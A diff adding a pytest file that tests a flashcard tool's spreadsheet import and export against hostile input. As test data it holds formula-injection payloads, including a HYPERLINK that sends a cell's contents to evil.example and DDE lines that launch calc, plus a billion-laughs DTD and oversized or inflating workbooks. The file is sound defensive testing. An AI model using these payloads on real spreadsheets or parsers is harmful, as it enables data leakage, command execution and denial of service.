@@ -1,0 +1,330 @@
+"""Sheets from outside: formula injection, and files built to cost minutes or gigabytes.
+
+Every hostile file is built here, small; each must give one located error and exit 1.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+import zipfile
+from pathlib import Path
+
+import openpyxl
+import pytest
+
+from deckfactory import VALID_CARDS
+from deckctl.sheet import limits, xlsxparts
+from deckctl.sheet.export import export_sheet
+from deckctl.sheet.formulas import neutralise, restore
+from deckctl.sheet.merge import merge_sheet
+
+# Texts a spreadsheet would run as formulas, and texts whose leading apostrophe must survive.
+HOSTILE = {
+    "spider-legs": ("front", '=HYPERLINK("http://evil.example/?"&A1,"Click")'),
+    "first-letters": ("front", "+1+cmd|' /C calc'!A0"),
+    "sky-colour": ("front", "-2+3+cmd|' /C calc'!A0"),
+    "insect-legs": ("front", "@SUM(1+1)*cmd|' /C calc'!A0"),
+    "grass-colour": ("front", "'=A1' is a formula."),
+    "last-letters": ("back", "'quoted"),
+    "snow-colour": ("back", "\t=1+1"),
+}
+NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
+
+
+def _hostile_deck(make_deck) -> Path:
+    cards = VALID_CARDS["knowledge"]
+    for card_id, (key, text) in HOSTILE.items():
+        head, rest = cards.split(f"- id: {card_id}\n", 1)
+        line = next(line for line in rest.split("\n") if line.startswith(f"  {key}: "))
+        rest = rest.replace(line, f"  {key}: {_quoted(text)}", 1)
+        cards = f"{head}- id: {card_id}\n{rest}"
+    cards = cards.replace("  value: [D, E]\n", "  value: [D, E]\n  accept: [\"=x\", \"'y\", z]\n")
+    return make_deck("knowledge", cards)
+
+
+def _quoted(text: str) -> str:
+    return '"' + text.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t") + '"'
+
+
+def _snapshot(deck: Path) -> dict[str, bytes]:
+    return {p.relative_to(deck).as_posix(): p.read_bytes() for p in sorted(deck.rglob("*")) if p.is_file()}
+
+
+# --- formula injection ------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@x", "\tx", "\rx", "'", "''", "'=A1'", "'90s", " =1", "a=1",
+                                  "", "plain", "1.10", "  'x"])
+def test_neutralise_is_undone_by_restore(text):
+    assert restore(neutralise(text)) == text
+    cell = neutralise(text)
+    assert not cell.lstrip().startswith(("=", "+", "-", "@")) and not cell.startswith(("\t", "\r"))
+
+
+def test_csv_export_escapes_formulas_and_the_import_gives_every_text_back(make_deck, tmp_path):
+    deck = _hostile_deck(make_deck)
+    before = _snapshot(deck)
+    sheet = tmp_path / "deck.csv"
+    assert export_sheet(deck, sheet) == []
+    with sheet.open(encoding="utf-8-sig", newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    cells = {row["id"]: row for row in rows}
+    for card_id, (key, text) in HOSTILE.items():
+        assert cells[card_id][key] == "'" + text
+    assert cells["last-letters"]["accept"] == "'=x | ''y | z"
+    for row in rows:
+        assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values())
+    result = merge_sheet(sheet, deck)
+    assert result.ok and (result.texts, result.changed) == ({}, []), result.diagnostics
+    assert _snapshot(deck) == before
+
+
+def test_xlsx_export_writes_texts_never_formulas_and_the_import_gives_every_text_back(make_deck, tmp_path):
+    deck = _hostile_deck(make_deck)
+    before = _snapshot(deck)
+    sheet = tmp_path / "deck.xlsx"
+    assert export_sheet(deck, sheet) == []
+    with zipfile.ZipFile(sheet) as archive:
+        for name in archive.namelist():
+            if name.startswith("xl/worksheets/"):
+                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
+    cards = openpyxl.load_workbook(sheet)["cards"]
+    headers = [c.value for c in cards[1]]
+    by_id = {row[0].value: row for row in cards.iter_rows(min_row=2)}
+    for card_id, (key, text) in HOSTILE.items():
+        cell = by_id[card_id][headers.index(key)]
+        assert (cell.data_type, cell.value) == ("s", "'" + text)
+    result = merge_sheet(sheet, deck)
+    assert result.ok and (result.texts, result.changed) == ({}, []), result.diagnostics
+    assert _snapshot(deck) == before
+
+
+def test_an_edited_text_starting_with_an_apostrophe_is_written_as_typed(make_deck, tmp_path):
+    deck = make_deck("knowledge")
+    sheet = tmp_path / "deck.csv"
+    export_sheet(deck, sheet)
+    text = sheet.read_text("utf-8-sig").replace("Two, the cephalothorax", "''Two, the cephalothorax")
+    sheet.write_text(text, "utf-8")
+    result = merge_sheet(sheet, deck)
+    assert result.ok and result.changed == ["spider-legs"]
+    [new] = result.texts.values()
+    assert "back: \"'Two, the cephalothorax and the abdomen.\"" in new or \
+        "back: '''Two, the cephalothorax and the abdomen.'" in new
+
+
+# --- CSV limits -------------------------------------------------------------------------------
+
+
+def _csv(make_deck, tmp_path) -> tuple[Path, Path, list[list[str]]]:
+    deck = make_deck("knowledge")
+    sheet = tmp_path / "deck.csv"
+    export_sheet(deck, sheet)
+    with sheet.open(encoding="utf-8-sig", newline="") as handle:
+        return deck, sheet, list(csv.reader(handle))
+
+
+def _write_csv(sheet: Path, rows: list[list[str]]) -> None:
+    with sheet.open("w", encoding="utf-8", newline="") as handle:
+        csv.writer(handle).writerows(rows)
+
+
+def _only_error(result):
+    [error] = [d for d in result.diagnostics if d.is_error]
+    return error
+
+
+def test_a_csv_larger_than_the_limit_is_refused_before_it_is_parsed(make_deck, tmp_path, cli):
+    deck, sheet, _ = _csv(make_deck, tmp_path)
+    sheet.write_bytes(b"id\n" + b"a," * (limits.MAX_FILE_BYTES // 2))
+    run = cli("import", "sheet", sheet, deck, cwd=tmp_path)
+    assert run.exit_code == 1 and "deck.csv: error: the file is" in run.stdout and "[file-too-large]" in run.stdout
+
+
+def test_csv_rows_columns_and_cells_beyond_the_limits(make_deck, tmp_path):
+    deck, sheet, rows = _csv(make_deck, tmp_path)
+    _write_csv(sheet, rows + [[f"extra-{i}"] for i in range(limits.MAX_ROWS)])
+    error = _only_error(merge_sheet(sheet, deck))
+    assert (error.code, error.line, error.col) == ("too-many-rows", limits.MAX_ROWS + 1, 1)
+
+    _write_csv(sheet, rows[:2] + [rows[2] + [""] * limits.MAX_COLUMNS] + rows[3:])
+    error = _only_error(merge_sheet(sheet, deck))
+    assert (error.code, error.line, error.col) == ("too-many-columns", 3, limits.MAX_COLUMNS + 1)
+
+    # Longer than the csv module's own limit (128 KB) too: still this cell, not a syntax error.
+    for size in (limits.MAX_CELL_CHARS + 1, 200_000):
+        long = [row[:] for row in rows]
+        long[4][3] = "x" * size
+        _write_csv(sheet, long)
+        error = _only_error(merge_sheet(sheet, deck))
+        assert (error.code, error.line, error.col, error.card_id) == ("cell-too-long", 5, 4, long[4][0])
+    assert csv.field_size_limit() == 131_072  # the csv module's limit is put back
+
+
+@pytest.mark.parametrize("char", ["\x00", "\x1b", "\x07", "\x7f", "\x9b"])
+def test_a_control_character_in_a_csv_cell_is_located(make_deck, tmp_path, cli, char):
+    deck, sheet, rows = _csv(make_deck, tmp_path)
+    rows[3][2] = f"Colour{char}[2J of the sky"
+    _write_csv(sheet, rows)
+    before = _snapshot(deck)
+    run = cli("import", "sheet", sheet, deck, cwd=tmp_path)
+    assert run.exit_code == 1 and run.exception is None
+    assert f"deck.csv:4:3: error: card `{rows[3][0]}`: the cell holds the control character U+{ord(char):04X}" in run.stdout
+    assert "[control-character]" in run.stdout and "\x1b" not in run.stdout
+    assert _snapshot(deck) == before
+
+
+def test_a_utf16_csv_is_named_as_such(make_deck, tmp_path):
+    deck, sheet, rows = _csv(make_deck, tmp_path)
+    sheet.write_bytes("\n".join(",".join(row[:3]) for row in rows).encode("utf-16-le"))
+    error = _only_error(merge_sheet(sheet, deck))
+    assert (error.code, error.line, error.col) == ("control-character", 1, 1) and "UTF-16" in error.hint
+
+
+# --- XLSX limits ------------------------------------------------------------------------------
+
+
+def _xlsx(make_deck, tmp_path) -> tuple[Path, Path]:
+    deck = make_deck("knowledge")
+    sheet = tmp_path / "deck.xlsx"
+    export_sheet(deck, sheet)
+    return deck, sheet
+
+
+def _rebuild(sheet: Path, parts: dict[str, bytes | str | None]) -> None:
+    """The workbook with parts replaced (None: left out) or added."""
+    with zipfile.ZipFile(sheet) as archive:
+        old = {name: archive.read(name) for name in archive.namelist()}
+    for name, data in parts.items():
+        if data is None:
+            old.pop(name, None)
+        else:
+            old[name] = data.encode() if isinstance(data, str) else data
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, data in old.items():
+            archive.writestr(name, data)
+    sheet.write_bytes(out.getvalue())
+
+
+def _worksheet(sheet_data: str, dimension: str = "") -> str:
+    dimension = f'<dimension ref="{dimension}"/>' if dimension else ""
+    return f"<worksheet {NS}>{dimension}<sheetData>{sheet_data}</sheetData></worksheet>"
+
+
+HEADER_ROW = '<row r="1"><c r="A1" t="inlineStr"><is><t>id</t></is></c></row>'
+SST_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
+
+
+def _with_shared_strings(sheet: Path, strings: str) -> None:
+    with zipfile.ZipFile(sheet) as archive:
+        types = archive.read("[Content_Types].xml").decode()
+    types = types.replace("</Types>", f'<Override PartName="/xl/sharedStrings.xml" ContentType="{SST_TYPE}"/></Types>')
+    _rebuild(sheet, {"[Content_Types].xml": types, "xl/sharedStrings.xml": strings})
+
+
+@pytest.mark.parametrize("dimension", ["A1:XFD1048576", ""])
+def test_one_cell_at_the_end_of_the_sheet_is_refused_at_that_cell(make_deck, tmp_path, cli, dimension):
+    deck, sheet = _xlsx(make_deck, tmp_path)
+    far = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
+    _rebuild(sheet, {"xl/worksheets/sheet1.xml": _worksheet(HEADER_ROW + far, dimension)})
+    assert sheet.stat().st_size < 10_000
+    run = cli("import", "sheet", sheet, deck, cwd=tmp_path)
+    assert run.exit_code == 1 and run.exception is None
+    code = "too-many-rows"
+    assert f"deck.xlsx!XFD1048576: error: the sheet `cards` is too large" in run.stdout and f"[{code}]" in run.stdout
+
+
+def test_rows_and_cells_without_positions_are_counted(make_deck, tmp_path, monkeypatch):
+    monkeypatch.chdir(tmp_path)
+    deck, sheet = _xlsx(make_deck, tmp_path)
+    wide = "<row>" + "<c><v>1</v></c>" * (limits.MAX_COLUMNS + 1) + "</row>"
+    _rebuild(sheet, {"xl/worksheets/sheet1.xml": _worksheet(HEADER_ROW + wide)})
+    error = _only_error(merge_sheet(sheet, deck))
+    assert (error.code, error.file) == ("too-many-columns", "deck.xlsx!BM2")
+    # The same cell a million times over is still a million cells in one row.
+    same = '<row r="2">' + '<c r="A2"><v>1</v></c>' * (limits.MAX_COLUMNS + 1) + "</row>"
+    _rebuild(sheet, {"xl/worksheets/sheet1.xml": _worksheet(HEADER_ROW + same)})
+    assert _only_error(merge_sheet(sheet, deck)).code == "too-many-columns"
+    rows = "<row><c><v>1</v></c></row>" * limits.MAX_ROWS
+    _rebuild(sheet, {"xl/worksheets/sheet1.xml": _worksheet(HEADER_ROW + rows)})
+    error = _only_error(merge_sheet(sheet, deck))
+    assert (error.code, error.file) == ("too-many-rows", f"deck.xlsx!A{limits.MAX_ROWS + 1}")
+
+
+def test_too_many_shared_strings_are_refused_before_openpyxl_reads_them(make_deck, tmp_path, monkeypatch):
+    monkeypatch.chdir(tmp_path)
+    deck, sheet = _xlsx(make_deck, tmp_path)
+    _with_shared_strings(sheet, f"<sst {NS}>" + "<si><t>a</t></si>" * (xlsxparts.MAX_SHARED_STRINGS + 1) + "</sst>")
+    error = _only_error(merge_sheet(sheet, deck))
+    assert error.code == "sheet-too-large" and "shared strings" in error.message and error.file == "deck.xlsx"
+
+
+def test_a_part_that_inflates_beyond_the_limit_is_refused_from_the_zip_directory(make_deck, tmp_path):
+    deck, sheet = _xlsx(make_deck, tmp_path)
+    _with_shared_strings(sheet, b" " * (xlsxparts.MAX_PART_BYTES + 1))
+    assert sheet.stat().st_size < 100_000
+    error = _only_error(merge_sheet(sheet, deck))
+    assert error.code == "sheet-too-large" and "xl/sharedStrings.xml inflates to" in error.message
+
+
+def test_a_stylesheet_of_many_formats_is_refused(make_deck, tmp_path):
+    deck, sheet = _xlsx(make_deck, tmp_path)
+    with zipfile.ZipFile(sheet) as archive:
+        styles = archive.read("xl/styles.xml").decode()
+    styles = styles.replace("</cellXfs>", "<xf/>" * xlsxparts.MAX_PART_ELEMENTS + "</cellXfs>")
+    _rebuild(sheet, {"xl/styles.xml": styles})
+    error = _only_error(merge_sheet(sheet, deck))
+    assert error.code == "sheet-too-large" and "xl/styles.xml" in error.message
+
+
+LAUGHS = ('<!DOCTYPE lolz [<!ENTITY lol "lol">'
+          + "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10 if i > 1 else "&lol;" * 10}">' for i in range(1, 10))
+          + "]>")
+
+
+@pytest.mark.parametrize("part", ["xl/sharedStrings.xml", "xl/workbook.xml", "xl/worksheets/sheet1.xml"])
+def test_billion_laughs_are_refused_without_expanding(make_deck, tmp_path, cli, part):
+    deck, sheet = _xlsx(make_deck, tmp_path)
+    _with_shared_strings(sheet, f"<sst {NS}><si><t>x</t></si></sst>")
+    with zipfile.ZipFile(sheet) as archive:
+        xml = archive.read(part).decode()
+    xml = re.sub(r"^(<\?xml[^>]*\?>)?", lambda m: (m.group(0) or "") + LAUGHS, xml, count=1)
+    used = {"xl/sharedStrings.xml": "<t>x</t>", "xl/workbook.xml": 'name="cards"', "xl/worksheets/sheet1.xml": "<t>id</t>"}
+    assert used[part] in xml
+    xml = xml.replace(used[part], used[part].replace("x", "&lol9;").replace("cards", "&lol9;").replace("id", "&lol9;"))
+    _rebuild(sheet, {part: xml})
+    run = cli("import", "sheet", sheet, deck, cwd=tmp_path)
+    assert run.exit_code == 1 and run.exception is None
+    assert f"deck.xlsx: error: the part {part} declares a DTD" in run.stdout and "[xml-entities]" in run.stdout
+
+
+def test_an_undefined_entity_is_an_error_not_a_traceback(make_deck, tmp_path, cli):
+    deck, sheet = _xlsx(make_deck, tmp_path)
+    _rebuild(sheet, {"xl/worksheets/sheet1.xml": _worksheet('<row r="1"><c r="A1" t="inlineStr"><is><t>&secret;</t>'
+                                                            "</is></c></row>")})
+    run = cli("import", "sheet", sheet, deck, cwd=tmp_path)
+    assert run.exit_code == 1 and run.exception is None
+    assert "deck.xlsx: error: the part xl/worksheets/sheet1.xml is not well-formed XML (undefined entity" in run.stdout
+
+
+def test_a_workbook_without_sheets_is_an_error(make_deck, tmp_path, cli):
+    deck, sheet = _xlsx(make_deck, tmp_path)
+    with zipfile.ZipFile(sheet) as archive:
+        workbook = archive.read("xl/workbook.xml").decode()
+    _rebuild(sheet, {"xl/workbook.xml": re.sub(r"<sheets>.*</sheets>", "<sheets/>", workbook)})
+    run = cli("import", "sheet", sheet, deck, cwd=tmp_path)
+    assert run.exit_code == 1 and run.exception is None
+    assert "deck.xlsx: error: the workbook has no worksheet" in run.stdout
+
+
+def test_a_control_character_in_an_xlsx_cell_is_located(make_deck, tmp_path, cli):
+    deck, sheet = _xlsx(make_deck, tmp_path)
+    book = openpyxl.load_workbook(sheet)
+    book["cards"]["C3"] = "The colour\x9b2J of the sky"  # C1 CSI: legal in XML, acted on by terminals
+    book.save(sheet)
+    run = cli("import", "sheet", sheet, deck, cwd=tmp_path)
+    card_id = book["cards"]["A3"].value
+    assert run.exit_code == 1
+    assert f"deck.xlsx!C3: error: card `{card_id}`: the cell holds the control character U+009B" in run.stdout
